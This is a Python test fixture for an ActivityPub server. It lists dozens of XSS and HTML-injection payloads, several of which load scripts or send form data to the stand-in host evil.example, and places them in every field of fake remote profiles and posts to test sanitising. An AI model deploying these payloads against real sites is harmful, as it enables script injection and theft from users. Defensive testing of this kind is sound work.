"""Texts that do harm where they are put into a page as they are, and people who write nothing else.

What they try: ``alert``, which ``watching`` notices, and requests to ``evil.example``.
"""

from __future__ import annotations

from typing import Any

PUBLIC = "https://www.w3.org/ns/activitystreams#Public"

VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<script>alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/a.gif>",
    "<img/src='//evil.example/a.gif'/onerror='alert(1)'>",
    "<img srcset='//evil.example/a.gif 1x'>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onerror='alert(1)' src='//evil.example/x' x='",
    " onload=alert(1) src=//evil.example/x ",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=//evil.example/a.svg></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert()&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<video src=//evil.example/x poster=//evil.example/y autoplay onerror=alert(1)></video>",
    "<audio src=//evil.example/x onerror=alert(1)></audio>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/y)}</style>",
    "<p style='background:url(//evil.example/x);position:fixed;inset:0'>x</p>",
    '<div style="width:expression(alert(1));behavior:url(//evil.example/x)">x</div>',
    "<body onload=alert(1) background=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example/ method=post><input name=x autofocus onfocus=alert(1)></form>",
    "<button formaction=//evil.example/ onclick=alert(1)>x</button>",
    "<a href='javascript:alert(1)' class='u-url'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' ping='//evil.example/ping' target=_top>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<table background='javascript:alert(1)'><td background=//evil.example/x>x</table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl' type='text/xsl'?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "//evil.example/x">]>&e;',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{{constructor.constructor('alert(1)')()}}{% raw %}${alert(1)}",
    "javascript:alert(1)",
    "//evil.example/x",
    "\u2028alert(1)\u2029//",
    "\x00<\x00script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<a" + " x" * 2_000 + "><img src=x onerror=alert(1)>",
    "<div>" * 600 + "<img src=x onerror=alert(1)>",
)


def actor(number: int, vector: str) -> dict[str, Any]:
    """Somebody elsewhere with it in every field that is shown or could be."""
    base = f"https://m{number}.example"
    picture = {"type": "Image", "mediaType": "image/png", "name": vector, "summary": vector}
    return {
        "@context": ["https://www.w3.org/ns/activitystreams", "https://w3id.org/security/v1"],
        "id": f"{base}/users/m",
        "type": "Person",
        "preferredUsername": "m",
        "name": vector,
        "summary": f"{vector}<p>{vector}</p>",
        "url": vector if ":" in vector or vector.startswith("//") else f"{base}/{vector}",
        "inbox": f"{base}/inbox",
        "outbox": f"{base}/outbox",
        "icon": {**picture, "url": f"{base}/{vector}"},
        "image": {**picture, "url": [vector, {"type": "Link", "href": vector}]},
        "attachment": [
            {"type": "PropertyValue", "name": vector, "value": vector},
            {"type": "PropertyValue", "name": "x", "value": f'<a href="{vector}">{vector}</a>'},
            {"type": "Note", "name": vector, "content": vector},
        ],
        "tag": [
            {
                "type": "Emoji",
                "name": f":{vector}:",
                "icon": {"type": "Image", "url": vector, "mediaType": vector},
            }
        ],
        "alsoKnownAs": [vector],
        "featured": vector,
        "published": vector,
    }


def note(number: int, vector: str, reader: str) -> dict[str, Any]:
    """What they write to everybody and to ``reader``, the same way."""
    base = f"https://m{number}.example"
    return {
        "@context": "https://www.w3.org/ns/activitystreams",
        "id": f"{base}/notes/1",
        # A poll has options, which an article has not; a title is an article's.
        "type": ("Note", "Question", "Article", "Event")[number % 4],
        "attributedTo": f"{base}/users/m",
        "to": [PUBLIC],
        "cc": [reader, f"{base}/users/m/followers"],
        "published": "2026-11-20T09:00:00Z",
        "updated": "2026-11-20T09:30:00Z",
        "name": vector,
        # Behind a warning is another part of the page than before one.
        **({"summary": vector, "sensitive": True} if number % 2 else {}),
        "content": f"{vector}<p>zebra {vector}</p>",
        "contentMap": {vector: vector, "en": f"{vector}<p>zebra {vector}</p>"},
        "source": {"content": vector, "mediaType": vector},
        "url": [vector, {"type": "Link", "href": vector, "mediaType": "text/html"}],
        "inReplyTo": f"https://evil.example/{vector}",
        "context": vector,
        "quoteUrl": f"https://evil.example/{vector}",
        "location": {"type": "Place", "name": vector},
        "oneOf": [
            {"type": "Note", "name": f"{option} {vector}", "replies": {"totalItems": 1}}
            for option in ("one", "two")
        ],
        "attachment": [
            {
                "type": kind,
                "mediaType": media_type,
                "url": f"{base}/{vector}",
                "name": vector,
                "blurhash": vector,
                "focalPoint": [vector, 9],
            }
            for kind, media_type in (
                ("Document", "image/png"),
                ("Video", "video/mp4"),
                ("Audio", "audio/ogg"),
                ("Link", vector),
            )
        ],
        "tag": [
            {"type": "Mention", "href": reader, "name": f"@dave {vector}"},
            {"type": "Hashtag", "href": vector, "name": "#zebra"},
            {"type": "Hashtag", "href": vector, "name": f"#{vector}"},
            {
                "type": "Emoji",
                "name": f":{vector}:",
                "icon": {"type": "Image", "url": vector, "mediaType": vector},
            },
        ],
    }


def activity(number: int, kind: str, thing: Any) -> dict[str, Any]:
    """Something they do."""
    base = f"https://m{number}.example"
    return {
        "@context": "https://www.w3.org/ns/activitystreams",
        "id": f"{base}/{kind.lower()}/1",
        "type": kind,
        "actor": f"{base}/users/m",
        "to": [PUBLIC],
        "object": thing,
    }
